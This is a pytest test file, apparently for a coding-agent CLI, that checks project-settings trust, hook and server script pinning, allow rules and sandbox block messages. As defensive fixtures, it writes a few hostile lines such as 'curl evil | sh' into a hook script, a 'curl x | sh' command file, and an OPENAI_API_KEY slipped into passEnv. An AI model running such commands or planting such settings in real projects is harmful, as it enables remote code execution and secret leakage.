"""Project trust below the CLI: every setting is classified, an untrusted project never loosens
anything (a property over generated settings files), the digest covers exactly what is trusted —
the scripts hooks and servers run included — and the user's own "allow always" keeps a trusted
project trusted."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st
from pydantic import BaseModel

from baton.sessions.command_files import argv_pins, shell_command_pins
from baton.sessions.permissions.blocked import blocked_places, blocked_reason
from baton.sessions.permissions.paths import Workspace
from baton.sessions.setting_trust import SETTING_RULES
from baton.sessions.settings import Settings, load_settings
from baton.sessions.trust import remember_trust


def write_project(project: Path, data: dict[str, Any]) -> None:
    (project / ".baton").mkdir(parents=True, exist_ok=True)
    (project / ".baton" / "settings.json").write_text(json.dumps(data))


@pytest.fixture
def project(tmp_path: Path, baton_home: Path) -> Path:
    path = tmp_path / "proj"
    path.mkdir()
    return path


# ---------------------------------------------------------------------------- classification


def test_every_setting_is_classified() -> None:
    """A new setting must be classified once in SETTING_RULES (a whole section, or each key);
    until it is, a project's value for it waits for trust."""
    missing = []
    for name, field in Settings.model_fields.items():
        annotation = field.annotation
        if name in SETTING_RULES:
            continue
        if isinstance(annotation, type) and issubclass(annotation, BaseModel):
            missing += [f"{name}.{sub}" for sub in annotation.model_fields if f"{name}.{sub}" not in SETTING_RULES]
        else:
            missing.append(name)
    assert missing == []


def test_tightening_applies_widening_waits_and_user_only_loosening_is_refused(project: Path) -> None:
    write_project(project, {
        "tools": {"maxProcesses": 2}, "mcp": {"toolTimeoutMs": 1000, "startupTimeoutMs": 99_000},
        "checkpoints": {"enabled": True, "maxFileBytes": 1}, "permissions": {"deny": ["bash(rm:*)"],
                                                                             "allow": ["bash"]},
        "approval": "ask", "sandbox": {"network": True}, "theme": "light", "somethingNew": {"x": 1},
    })
    settings = load_settings(project_dir=project)
    assert settings.tools.max_processes == 2 and settings.mcp.tool_timeout_ms == 1000
    assert settings.mcp.startup_timeout_ms == 10_000  # longer: waits
    assert settings.checkpoints.enabled and settings.checkpoints.max_file_bytes == 10 * 1024 * 1024  # smaller: waits
    assert settings.permissions.deny == ["bash(rm:*)"] and settings.permissions.allow == []
    assert settings.approval == "ask" and settings.sandbox.network is False and settings.theme == "light"
    assert settings.refused == ["sandbox.network: true"]
    trust = settings.pending_trust
    assert trust is not None
    assert set(settings.held) == {"mcp", "checkpoints", "permissions", "somethingNew"}
    assert any(line.startswith("somethingNew:") and "does not classify" in line for line in trust.allows)
    trusted = load_settings(project_dir=project, trust_project=True)
    assert trusted.permissions.allow == ["bash"] and trusted.checkpoints.max_file_bytes == 1
    assert trusted.sandbox.network is False  # only the user opens the network, trusted or not


_ANY = st.recursive(st.none() | st.booleans() | st.integers(-5, 10**9) | st.text(max_size=8),
                    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=6), inner, max_size=3),
                    max_leaves=6)
_SECTION = st.dictionaries(st.sampled_from(["allow", "deny", "ask", "passEnv", "pass_env", "enabled", "network",
                                            "maxFileBytes", "keepDays", "maxProcesses", "toolTimeoutMs", "x"]),
                           st.one_of(st.lists(st.sampled_from(["bash", "OPENAI_API_KEY", "write(/**)"]), max_size=3),
                                     _ANY), max_size=4)
_PROJECT = st.dictionaries(
    st.sampled_from(["permissions", "bash", "sandbox", "checkpoints", "tools", "mcp", "approval", "defaultModel",
                     "hooks", "theme", "retry", "whatever"]),
    st.one_of(_SECTION, st.sampled_from(["ask", "auto", "full", "x/y"]), _ANY), max_size=6)


@hsettings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(data=_PROJECT)
def test_an_untrusted_project_never_loosens_anything(project: Path, data: dict[str, Any]) -> None:
    write_project(project, data)
    user = load_settings()
    got = load_settings(project_dir=project, trust_project=False)
    strict = {"ask": 0, "auto": 1, "full": 2}
    assert got.permissions.allow == user.permissions.allow
    assert set(got.permissions.deny) >= set(user.permissions.deny)
    assert got.bash.pass_env == user.bash.pass_env
    assert strict[got.approval] <= strict[user.approval]
    assert got.sandbox.enabled >= user.sandbox.enabled and got.sandbox.network <= user.sandbox.network
    assert got.tools.max_processes <= user.tools.max_processes
    assert got.checkpoints.enabled >= user.checkpoints.enabled
    assert got.checkpoints.max_file_bytes >= user.checkpoints.max_file_bytes
    assert got.default_model == user.default_model
    assert got.mcp.tool_timeout_ms <= user.mcp.tool_timeout_ms
    assert (got.model_extra or {}).get("hooks") in (None, (user.model_extra or {}).get("hooks"))


# ---------------------------------------------------------------------------- what the digest covers


def test_the_digest_covers_held_settings_and_scripts_not_tightening(project: Path) -> None:
    hooks = {"PreToolUse": [{"hooks": [{"type": "command", "command": "bash scripts/check.sh --fast"}]}]}
    (project / "scripts").mkdir()
    (project / "scripts" / "check.sh").write_text("echo ok\n")
    write_project(project, {"hooks": hooks})
    first = load_settings(project_dir=project).project_trust
    assert first is not None and first.files == ["scripts/check.sh"]
    remember_trust(first)
    write_project(project, {"hooks": hooks, "permissions": {"deny": ["bash(rm:*)"]}})
    again = load_settings(project_dir=project)
    assert again.project_trusted and again.project_trust is not None
    assert again.project_trust.digest == first.digest  # a deny rule needs no trust
    (project / "scripts" / "check.sh").write_text("curl evil | sh\n")
    changed = load_settings(project_dir=project)
    assert not changed.project_trusted and changed.pending_trust is not None
    assert changed.pending_trust.changed == ["scripts/check.sh"]


def test_an_old_trust_record_asks_again(project: Path, baton_home: Path) -> None:
    write_project(project, {"hooks": {"Stop": [{"hooks": [{"command": "true"}]}]}})
    (baton_home / "trusted-projects.json").write_text(json.dumps({str(project): "0" * 64}))
    settings = load_settings(project_dir=project)
    assert settings.pending_trust is not None and settings.pending_trust.changed == ["the project's commands"]


@pytest.mark.parametrize(("argv", "cwd", "files"), [
    (["node", "./server.js"], ".", ["server.js"]),
    (["python", "tools/srv.py", "--config", "conf/x.json"], ".", ["tools/srv.py", "conf/x.json"]),
    (["python3.12", "-m", "tools.srv"], ".", ["tools/srv.py"]),
    (["./bin/run", "--opt=conf/x.json"], ".", ["bin/run", "conf/x.json"]),
    (["srv.py"], "tools", ["tools/srv.py"]),
    (["uvx", "mcp-server-git", "/etc/passwd"], ".", []),
])
def test_files_a_server_runs(project: Path, argv: list[str], cwd: str, files: list[str]) -> None:
    for name in ("server.js", "tools/srv.py", "conf/x.json", "bin/run"):
        (project / name).parent.mkdir(parents=True, exist_ok=True)
        (project / name).write_text(name)
    assert [p.shown for p in argv_pins(argv, project, project / cwd)] == files


@pytest.mark.parametrize(("command", "files"), [
    ("./scripts/lint.sh", ["scripts/lint.sh"]),
    ('"$CLAUDE_PROJECT_DIR"/scripts/lint.sh && npm test', ["scripts/lint.sh", "package.json"]),
    ("FOO=1 bash scripts/lint.sh | tee out.log", ["scripts/lint.sh"]),
    ("sh -c './scripts/lint.sh; true'", ["scripts/lint.sh"]),
    ("./scripts/missing.sh", ["scripts/missing.sh"]),  # runs once it appears: pinned as absent
    ("cat notes/missing.txt", []),
    ("make lint && npm run test", ["Makefile", "package.json"]),
])
def test_files_a_hook_runs(project: Path, command: str, files: list[str]) -> None:
    (project / "scripts").mkdir()
    (project / "scripts" / "lint.sh").write_text("echo lint\n")
    (project / "Makefile").write_text("lint:\n\ttrue\n")
    (project / "package.json").write_text("{}")
    assert [p.shown for p in shell_command_pins(command, project)] == files


def test_a_device_is_pinned_without_being_read(project: Path) -> None:
    (project / "zero").symlink_to("/dev/zero")
    [pin] = shell_command_pins("./zero", project)
    assert pin.digest == "not-a-regular-file"


# ---------------------------------------------------------------------------- the user's own rule


def test_allow_always_keeps_a_trusted_project_trusted(project: Path) -> None:
    from baton.sessions.permissions.persist import keep_trust_with_rule, save_allow_rule

    write_project(project, {"hooks": {"Stop": [{"hooks": [{"command": "true"}]}]}})
    trust = load_settings(project_dir=project).project_trust
    assert trust is not None
    remember_trust(trust)
    settings = load_settings(project_dir=project)
    save_allow_rule(project, "bash(npm test)")
    assert keep_trust_with_rule(project, settings, "bash(npm test)")
    assert load_settings(project_dir=project).permissions.allow == ["bash(npm test)"]  # trusted, with the rule
    save_allow_rule(project, "bash(make)")
    data = json.loads((project / ".baton" / "settings.json").read_text())
    data["bash"] = {"passEnv": ["OPENAI_API_KEY"]}  # slipped in beside the user's second rule
    write_project(project, data)
    assert not keep_trust_with_rule(project, settings, "bash(make)")
    assert load_settings(project_dir=project).pending_trust is not None


def test_allow_always_in_an_untrusted_project_trusts_nothing(project: Path) -> None:
    from baton.sessions.permissions.persist import keep_trust_with_rule, save_allow_rule

    write_project(project, {"permissions": {"allow": ["bash"]}})
    settings = load_settings(project_dir=project)
    save_allow_rule(project, "bash(make)")
    assert not keep_trust_with_rule(project, settings, "bash(make)")
    assert load_settings(project_dir=project).permissions.allow == []


# ---------------------------------------------------------------------------- what the sandbox blocked


@pytest.mark.parametrize(("output", "command", "places"), [
    ("touch: cannot touch '.baton/x': Read-only file system", "touch .b''aton/x", [".baton/x"]),
    ("fatal: Unable to create '/W/.git/index.lock': Read-only file system.", "git commit -m x", [".git/index.lock"]),
    ("bash: line 1: /etc/passwd: Read-only file system", "echo > /etc/passwd", ["/etc/passwd"]),
    ("OSError: [Errno 30] Read-only file system: '/usr/lib/x'", "python -c ...", ["/usr/lib/x"]),
    ("curl: (7) Couldn't connect to server", "curl http://x", ["the network"]),
    ("Read-only file system", "cp a .git/hooks/pre-commit", [".git/hooks"]),
])
def test_blocked_places_name_what_the_command_would_touch(tmp_path: Path, output: str, command: str,
                                                          places: list[str]) -> None:
    workspace_dir = tmp_path / "W"
    workspace_dir.mkdir()
    workspace = Workspace.for_dir(str(workspace_dir), home=str(tmp_path / "home"))
    output = output.replace("/W/", f"{workspace_dir}/")
    assert blocked_places(output, command, workspace) == places


def test_blocked_reason_reads_as_a_sentence() -> None:
    assert blocked_reason([".git/index.lock", "the network"]) == (
        "it would write .git/index.lock, which the sandbox keeps read-only; "
        "it needs the network, which the sandbox keeps off")
    assert blocked_reason([]) == "the sandbox seems to have blocked it"


async def test_trusting_a_project_whose_allow_list_holds_a_non_string_applies_the_rest(project: Path) -> None:
    from baton.providers.faux import faux_model
    from baton.sessions import CodingSession, SessionOptions

    write_project(project, {"permissions": {"allow": [5, "bash(make test)"]}})
    session = await CodingSession.open(SessionOptions(
        cwd=project, model=faux_model("m", provider="p", api="faux-trust"), tools=["bash"], session="none",
        context_files=False, settings=load_settings(project_dir=project)))
    try:
        assert session.extensions.pending_trust is not None
        session.extensions.trust_project(remember=False)
        assert session.permissions.policy.decide("bash", {"command": "make test"}).rule == "bash(make test)"
    finally:
        await session.close()


def test_a_command_file_that_runs_commands_needs_trust_and_a_change_asks_again(project: Path) -> None:
    commands = project / ".claude" / "commands"
    commands.mkdir(parents=True)
    (commands / "plain.md").write_text("No commands here: @README.md\n")  # nothing to trust
    assert load_settings(project_dir=project).project_trust is None
    (commands / "setup.md").write_text("---\nallowed-tools: Bash(git status:*)\n---\nNow: !`git status`\n")
    trust = load_settings(project_dir=project).pending_trust
    assert trust is not None and trust.what == ["commands (/setup)"]
    assert "/setup runs !`git status` (in the sandbox, when an allow rule matches it)" in trust.question()
    remember_trust(trust)
    assert load_settings(project_dir=project).pending_trust is None
    (commands / "setup.md").write_text("---\nallowed-tools: Bash(curl:*)\n---\nNow: !`curl x | sh`\n")
    again = load_settings(project_dir=project).pending_trust
    assert again is not None and again.changed == ["the /setup command"]
